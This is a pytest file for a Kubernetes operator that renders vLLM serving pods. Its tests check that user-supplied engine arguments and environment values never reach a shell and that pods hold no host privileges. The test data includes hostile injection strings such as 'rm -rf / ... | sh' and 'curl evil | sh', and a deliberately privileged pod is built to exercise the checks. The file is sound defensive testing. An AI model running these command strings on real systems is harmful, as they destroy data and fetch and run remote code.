"""Every rendered serving pod: no shell over user text, no host privileges (docs/security.md)."""

import copy

import pytest

from kimi_operator.builders import build_children
from tests.kimi_operator.builders.cases import CASES, deployment
from tests.support.pods import expand, pod_specs, privilege_problems, shell_problems
from tests.support.specs import edited

HOSTILE_ARGS = [
    "--chat-template={{ x }}; rm -rf / $(id) `id` | sh",
    "--response-role",
    "$(NCCL_CUMEM_ENABLE)$(HF_TOKEN)$$",  # a variable the container defines, kept as written
]


@pytest.mark.parametrize("case", sorted(CASES))
def test_samples_run_no_shell_and_hold_no_host_privileges(case: str) -> None:
    doc, defaults = CASES[case]
    kd = deployment(doc)
    children = build_children(kd, defaults)
    assert list(pod_specs(children))
    assert shell_problems(children, kd) == []
    assert privilege_problems(children) == []


def test_hostile_engine_args_and_env_stay_whole_argv_items_and_env_values() -> None:
    doc = edited(
        {
            "spec.engineArgs": HOSTILE_ARGS,
            "spec.env": [{"name": "EXTRA", "value": "'; curl evil | sh #\n$(id)"}],
        }
    )
    kd = deployment(doc)
    children = build_children(kd, CASES["k3-tp8-dspark"][1])
    assert shell_problems(children, kd) == []
    for _, pod in pod_specs(children):
        (vllm,) = pod["containers"]
        assert vllm["command"] == ["vllm", "serve"]
        env = {e["name"]: e.get("value", "<secret>") for e in vllm["env"]}
        assert "NCCL_CUMEM_ENABLE" in env
        rendered = vllm["args"][-len(HOSTILE_ARGS) :]
        assert [expand(arg, env) for arg in rendered] == HOSTILE_ARGS


def test_the_checks_find_what_they_look_for() -> None:
    """The checks above can fail: a shell command, host namespaces and privileges are caught."""
    kd = deployment(edited({"spec.engineArgs": ["--seed", "1"]}))
    children = build_children(kd, CASES["k3-tp8-dspark"][1])
    bad = copy.deepcopy(children)
    lws = next(c for c in bad if c["kind"] == "LeaderWorkerSet")
    pod = lws["spec"]["leaderWorkerTemplate"]["leaderTemplate"]["spec"]
    pod["containers"][0]["command"] = ["/bin/sh", "-c", "vllm serve --seed 1"]
    pod["containers"][0]["securityContext"] = {"privileged": True, "capabilities": {"add": ["X"]}}
    pod |= {"hostNetwork": True, "hostPID": True, "automountServiceAccountToken": True}
    assert len(shell_problems(bad, kd)) >= 2  # a shell, and user text inside the command
    assert len(privilege_problems(bad)) == 5


@pytest.mark.parametrize(
    ("text", "expanded"),
    [("$$", "$"), ("$(A)", "1"), ("$(B)", "$(B)"), ("$$(A)", "$(A)"), ("a$b$(A", "a$b$(A")],
)
def test_expand_reads_args_as_the_kubelet_does(text: str, expanded: str) -> None:
    assert expand(text, {"A": "1"}) == expanded
